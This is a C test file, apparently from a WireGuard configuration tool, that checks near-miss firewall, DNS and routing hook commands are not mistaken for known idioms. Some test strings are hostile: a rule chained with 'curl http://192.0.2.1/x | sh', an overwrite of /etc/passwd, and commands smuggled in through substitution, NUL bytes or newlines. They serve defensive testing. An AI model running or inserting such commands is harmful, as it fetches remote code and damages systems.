// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Hooks that look like an idiom and are none: each must stay raw_shell, whole, and must not take
 * what stands beside it along. A near miss that is taken for a kill switch would be a leak.
 */
#include "idiom_test.h"

#define MARK  "-m mark ! --mark $(wg show %i fwmark)"
#define LOCAL "-m addrtype ! --dst-type LOCAL"
#define KILL  "iptables -I OUTPUT ! -o %i " MARK " " LOCAL " -j REJECT"

#define NFT_CHAIN                                                                                  \
	"add table inet t; nft add chain inet t c '{ type filter hook output priority 0; }'; nft "
#define NFT_RULE "\"add rule inet t c "
#define NFT_KILL "oifname != %i mark != $(wg show %i fwmark) fib daddr type != local reject"

static const char *const raw_hooks[] = {
	/* Not quite the kill switch. */
	"iptables -I OUTPUT -o %i " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -m mark --mark $(wg show %i fwmark) " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i " MARK " -m addrtype --dst-type LOCAL -j REJECT",
	"iptables -I OUTPUT ! -o %i " MARK " -m addrtype ! --dst-type UNICAST -j REJECT",
	"iptables -I OUTPUT ! -o %i " MARK " -m addrtype ! --src-type LOCAL -j REJECT",
	"iptables -I OUTPUT ! -o eth0 " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o wg1 " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o wg+ " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -i %i " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -m mark ! --mark $(wg show wg1 fwmark) " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -m mark ! --mark 0x1 " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -m mark ! --mark 0xca6c/0xff " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i ! --mark $(wg show %i fwmark) " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -j REJECT",
	"iptables -I OUTPUT " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i " MARK " " LOCAL " -j ACCEPT",
	"iptables -I OUTPUT ! -o %i " MARK " " LOCAL " -j LOG",
	"iptables -I OUTPUT ! -o %i " MARK " " LOCAL " -g REJECT",
	"iptables -I OUTPUT ! -o %i " MARK " " LOCAL,
	"iptables -I INPUT ! -i %i " MARK " " LOCAL " -j REJECT",
	"iptables -I FORWARD ! -o %i " MARK " " LOCAL " -j REJECT",
	"iptables -I DOCKER-USER ! -o %i " MARK " " LOCAL " -j REJECT",
	"iptables -t mangle -I OUTPUT ! -o %i " MARK " " LOCAL " -j DROP",
	"iptables -C OUTPUT ! -o %i " MARK " " LOCAL " -j REJECT",
	"iptables -R OUTPUT 1 ! -o %i " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT 5 ! -o %i " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -p tcp " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -s 10.0.0.0/8 " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -d 10.0.0.0/8 " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i ! -d 8.8.8.8 " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i ! -d 0.0.0.0/0 " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i ! -d 192.168.0.0/15 " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i ! -d $HOMENET " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i " MARK " " LOCAL " -m owner --uid-owner 1000 -j REJECT",
	"iptables -I OUTPUT ! -o %i ! -o lo " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i " MARK " " LOCAL " -m conntrack --ctstate NEW -j REJECT",
	"iptables -I OUTPUT ! -o %i " MARK " " LOCAL " -j REJECT extra",
	"iptables -I OUTPUT ! ! -o %i " MARK " " LOCAL " -j REJECT",
	"ip6tables -I OUTPUT ! -o %i ! -d 192.168.0.0/16 " MARK " " LOCAL " -j REJECT",
	"iptables -P OUTPUT DROP",
	"iptables -F OUTPUT",
	/* One understood, one not. */
	KILL "; curl http://192.0.2.1/x | sh",
	"curl -s http://192.0.2.1/; " KILL,
	KILL " && touch /run/x",
	KILL " || iptables -P OUTPUT DROP",
	KILL " & ",
	KILL " | cat",
	KILL " > /etc/passwd",
	KILL " < /dev/null",
	"if true; then " KILL "; fi",
	"( " KILL " )",
	"{ " KILL "; }",
	"! " KILL,
	"sudo " KILL,
	"X=1 " KILL,
	"time " KILL,
	"eval '" KILL "'",
	"/tmp/" KILL,
	"./" KILL,
	"exec " KILL,
	"true; " KILL,
	KILL "; exit 0",
	KILL "; iptables -D OUTPUT -j DROP",
	KILL "; iptables -D OUTPUT ! -o %i " MARK " " LOCAL " -j REJECT",
	/* What the shell would make of it is not certain. */
	"iptables -I OUTPUT ! -o $INTERFACE " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o ${IF} " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o \"$IF\" " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -m mark ! --mark $(cat /run/mark) " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark; id) " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark | cat) " LOCAL
	" -j REJECT",
	"iptables -I OUTPUT ! -o %i -m mark ! --mark $(wg show %i peers) " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -m mark ! --mark $((51820)) " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -m mark ! --mark '$(wg show %i fwmark)' " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -m mark ! --mark \\$(wg show %i fwmark) " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -m mark ! --mark $'51820' " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -m mark ! --mark <(wg show %i fwmark) " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o wg? " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o wg[0] " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o {%i,eth0} " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o ~root " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %\"i\" " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o \\%i " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o '%i " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o \"%i " MARK " " LOCAL " -j REJECT",
	"iptables -I OUTPUT ! -o %i " MARK " " LOCAL " -j REJECT\\",
	KILL " &&",
	KILL " ||",
	KILL ";;",
	"; " KILL,
	"&& " KILL,
	"# " KILL,
	"",
	"true",
	/* Neighbours of the other idioms. */
	"iptables -I OUTPUT -d 192.168.0.0/16 -j ACCEPT",
	"iptables -I OUTPUT -o eth0 -p udp --dport 53 -j DROP",
	"iptables -I OUTPUT ! -o %i -p udp --dport 53 -j ACCEPT",
	"iptables -I OUTPUT ! -o %i -p udp --dport 5353 -j DROP",
	"iptables -I OUTPUT ! -o %i -p udp --sport 53 -j DROP",
	"iptables -I OUTPUT ! -o %i --dport 53 -j DROP",
	"iptables -I OUTPUT ! -o %i -m udp --dport 53 -j DROP",
	"iptables -I OUTPUT ! -o %i -p tcp -m udp --dport 53 -j DROP",
	"iptables -t nat -I OUTPUT -p udp --dport 53 -j DNAT --to-destination 10.8.0.1",
	"resolvectl domain %i corp.example",
	"resolvectl domain %i '~.' corp.example",
	"resolvectl default-route %i false",
	"resolvectl dns eth0 10.8.0.1",
	"resolvectl dns %i",
	"resolvectl dns %i dns.example",
	"resolvectl dns %i 10.8.0.1; resolvectl domain %i corp.example",
	"resolvectl dns %i 10.8.0.1; resolvectl dnssec %i yes",
	"resolvconf -a %i -m 0 -x",
	"cat /etc/dns | resolvconf -a %i -m 0 -x",
	"echo nameserver $DNS | resolvconf -a %i",
	"echo nameserver 10.8.0.1 | resolvconf -a eth0",
	"echo nameserver 10.8.0.1 | cat | resolvconf -a %i",
	"echo nameserver 10.8.0.1 || true | resolvconf -a %i",
	"echo search corp.example | resolvconf -a %i",
	"printf 'nameserver %s\\n' 10.8.0.1 | resolvconf -a %i",
	"iptables -t nat -A POSTROUTING ! -o %i -j MASQUERADE",
	"iptables -t nat -A POSTROUTING ! -s 10.8.0.0/24 -o eth0 -j MASQUERADE",
	"iptables -t nat -A POSTROUTING -s 10.8.0.0/24 -d 10.0.0.0/8 -j MASQUERADE",
	"iptables -t nat -A POSTROUTING -o eth+ -j MASQUERADE",
	"iptables -t nat -A POSTROUTING -o $(ip route show default) -j MASQUERADE",
	"iptables -t nat -A POSTROUTING -s lan.example -j MASQUERADE",
	"iptables -t nat -A POSTROUTING -o eth0 -j SNAT --to-source 192.0.2.1-192.0.2.9",
	"iptables -t nat -A POSTROUTING -o eth0 -j SNAT --to-source 192.0.2.1:1-9",
	"iptables -t nat -A POSTROUTING -o eth0 -j SNAT",
	"iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE --to-source 192.0.2.1",
	"iptables -t nat -A PREROUTING -o eth0 -j MASQUERADE",
	"iptables -A POSTROUTING -o eth0 -j MASQUERADE",
	"ip6tables -t nat -A POSTROUTING -s 10.8.0.0/24 -j MASQUERADE",
	"iptables -A FORWARD -i %i -j DROP",
	"iptables -A FORWARD -j ACCEPT",
	"iptables -A FORWARD ! -i %i -j ACCEPT",
	"iptables -A FORWARD -i %i -s 10.8.0.2 -j ACCEPT",
	"iptables -A FORWARD -i %i -p tcp --dport 80 -j ACCEPT",
	"iptables -A FORWARD -i %i -m conntrack --ctstate NEW -j ACCEPT",
	"iptables -A FORWARD -i %i -m conntrack --ctstate INVALID -j ACCEPT",
	"iptables -A FORWARD -i %i -m conntrack -j ACCEPT",
	"iptables -A FORWARD -i %i -i eth0 -j ACCEPT",
	"iptables -A INPUT -p udp --dport 51821 -j ACCEPT",
	"iptables -A INPUT -p tcp --dport 51820 -j ACCEPT",
	"iptables -A INPUT -i %i -j ACCEPT",
	"sysctl -p",
	"sysctl net.ipv4.ip_forward",
	"sysctl -w net.ipv4.ip_forward=2",
	"sysctl -w net.ipv4.ip_forward=1 kernel.panic=1",
	"sysctl -w net.ipv4.ip_forward=0",
	"echo 1",
	"echo 1 | tee /proc/sys/net/ipv4/ip_forward",
	"echo 1 > /proc/sys/net/ipv4/conf/all/rp_filter",
	"echo 1>/proc/sys/net/ipv4/ip_forward",
	"echo 1 > /proc/sys/net/ipv4/../ipv4/ip_forward",
	"iptables -t mangle -A FORWARD -p tcp --tcp-flags SYN,RST SYN -j TCPMSS --set-mss 1280",
	"iptables -t mangle -A FORWARD -p tcp -j TCPMSS --clamp-mss-to-pmtu",
	"iptables -t mangle -A FORWARD -o eth0 -p tcp --syn -j TCPMSS --clamp-mss-to-pmtu",
	"iptables -t nat -A PREROUTING -p tcp --dport 80:90 -j DNAT --to-destination 10.8.0.2",
	"iptables -t nat -A PREROUTING -j DNAT --to-destination 10.8.0.2",
	"iptables -t nat -A PREROUTING -d 192.0.2.1 -p tcp --dport 80 -j DNAT --to-destination "
	"10.8.0.2",
	"iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 10.8.0.2:80-90",
	"iptables -t nat -A PREROUTING -p tcp --dport 80 -j REDIRECT --to-ports 8080",
	/* nft: rules in a table that somebody else has made, or that drop by default. */
	"nft add rule inet filter output " NFT_KILL,
	"nft add rule inet t c " NFT_KILL,
	"nft " NFT_CHAIN NFT_RULE "oifname != %i mark != $(wg show %i fwmark)\"",
	"nft " NFT_CHAIN NFT_RULE "oifname != eth0 mark != $(wg show %i fwmark) reject\"",
	"nft " NFT_CHAIN NFT_RULE "oifname %i mark != $(wg show %i fwmark) reject\"",
	"nft " NFT_CHAIN NFT_RULE "oifname != %i mark $(wg show %i fwmark) reject\"",
	"nft " NFT_CHAIN NFT_RULE
	"oifname != %i mark != $(wg show %i fwmark) fib daddr type local drop\"",
	"nft " NFT_CHAIN NFT_RULE "oifname != %i mark != $(wg show %i fwmark) accept\"",
	"nft " NFT_CHAIN NFT_RULE "oifname != %i mark != $(wg show %i fwmark) drop accept\"",
	"nft " NFT_CHAIN NFT_RULE "oifname != %i mark != $(wg show %i fwmark) skuid 0 drop\"",
	"nft " NFT_CHAIN NFT_RULE
	"oifname != %i ip daddr != 8.8.8.8 mark != $(wg show %i fwmark) drop\"",
	"nft " NFT_CHAIN NFT_RULE "oifname != %i mark and 0xff != $(wg show %i fwmark) drop\"",
	"nft " NFT_CHAIN NFT_RULE "oifname \\\"",
	"nft " NFT_CHAIN "; nft flush ruleset",
	"nft add table inet t; nft add chain inet t c '{ type filter hook forward priority 0; "
	"policy drop; }'; nft " NFT_RULE "iifname %i accept\"",
	"nft -f /etc/nftables.conf",
	"nft flush ruleset",
	"nft delete table inet t",
	"nft",
	"ip rule add from 192.0.2.1 table main",
	"ip rule add not fwmark 51820 table 51820",
	"ip rule add to 10.0.0.0/8 table 100",
	"ip rule add to 10.0.0.0/8 blackhole",
	"ip rule add to default table main",
	"ip rule add to 0.0.0.0/0 table main",
	"ip rule add table main suppress_prefixlength 0",
	"ip rule add to 10.0.0.0/8 uidrange 1-2 table main",
	"ip rule add to 10.0.0.0/8 dport 22 table main",
	"ip rule add to 10.0.0.0/8 table main priority",
	"ip -6 rule add to 10.0.0.0/8 table main",
	"ip rule flush",
	"ip route add 10.5.0.0/16 dev %i",
	"ip route add 10.5.0.0/16 via 10.8.0.9",
	"ip route add 10.5.0.0/16",
	"ip route add default via 192.0.2.1",
	"ip route add 0.0.0.0/0 via 192.0.2.1 dev eth0",
	"ip route add 10.5.0.0/16 via 192.0.2.1 table 5",
	"ip route add blackhole 10.5.0.0/16",
	"ip link set %i multicast on",
	"wg set %i private-key <(pass WireGuard/private-keys/%i)",
	"echo \"Hello World\" | logger",
};

static void test_raw(void)
{
	size_t n = sizeof(raw_hooks) / sizeof(raw_hooks[0]);

	for (size_t i = 0; i < n; i++) {
		ARENA_CLEANUP struct arena *a = arena_new();
		struct conf c;

		hooks_from(a, "P x", &c);
		c.hooks[0].command = raw_hooks[i];
		c.hooks[0].len = strlen(raw_hooks[i]);
		is_str(recognised_in(a, &c), "raw_shell up 0\n", "raw: %s", raw_hooks[i]);
	}
}

/* Bytes that no line of a text should have. */
static void test_bytes(void)
{
	static const struct {
		const char *what, *text;
		size_t len;
	} rows[] = {
#define BYTES(what, text) {what, text, sizeof(text) - 1}
		BYTES("an embedded NUL", "iptables -A FORWARD -i %i\0 -j ACCEPT"),
		BYTES("a NUL at the end", "iptables -A FORWARD -i %i -j ACCEPT\0"),
		BYTES("a NUL and more", "iptables -A FORWARD -i %i -j ACCEPT\0; reboot"),
		BYTES("a carriage return", "iptables -A FORWARD -i %i -j ACCEPT\r"),
		BYTES("Latin-1", "iptables -A FORWARD -i \xe9 -j ACCEPT"),
		BYTES("a space that is none", "iptables -A FORWARD -i\xc2\xa0%i -j ACCEPT"),
		BYTES("the lexer's own mark", "iptables -A FORWARD -i \002 -j ACCEPT"),
		BYTES("the same in quotes", "iptables -A FORWARD -i '\002' -j ACCEPT"),
		BYTES("Latin-1 in quotes",
			"iptables -A FORWARD -i %i -m comment --comment \"\xe9\" -j ACCEPT"),
		BYTES("its mark of a mark",
			"iptables -I OUTPUT ! -o %i -m mark ! --mark \001 -j DROP"),
		BYTES("a newline and more", "iptables -A FORWARD -i %i -j ACCEPT\nreboot"),
		BYTES("an escape", "iptables -A FORWARD -i %i -j ACCEPT \033[2K"),
#undef BYTES
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		ARENA_CLEANUP struct arena *a = arena_new();
		struct conf c;

		hooks_from(a, "P x", &c);
		c.hooks[0].command = rows[i].text;
		c.hooks[0].len = rows[i].len;
		is_str(recognised_in(a, &c), "raw_shell up 0\n", "raw: %s", rows[i].what);
	}
}

/* As long as a file may be: understood to the end, and one word too many is seen there. */
static void test_long_line(void)
{
	static const char part[] = "iptables -A FORWARD -i %i -j ACCEPT;";
	STRBUF_CLEANUP struct strbuf b = {0};
	ARENA_CLEANUP struct arena *a = arena_new();
	struct conf c;

	while (b.len + sizeof(part) < 64 * 1024)
		strbuf_add(&b, part);
	hooks_from(a, "P x", &c);
	c.hooks[0].command = b.s;
	c.hooks[0].len = b.len;
	ok(strncmp(recognised_in(a, &c), "forwarding", 10) == 0, "a line of 64 KiB is understood");
	strbuf_add(&b, "id");
	c.hooks[0].command = b.s;
	c.hooks[0].len = b.len;
	is_str(recognised_in(a, &c), "raw_shell up 0\n", "a stranger at its end is seen");
}

int main(void)
{
	test_raw();
	test_bytes();
	test_long_line();
	return done_testing();
}
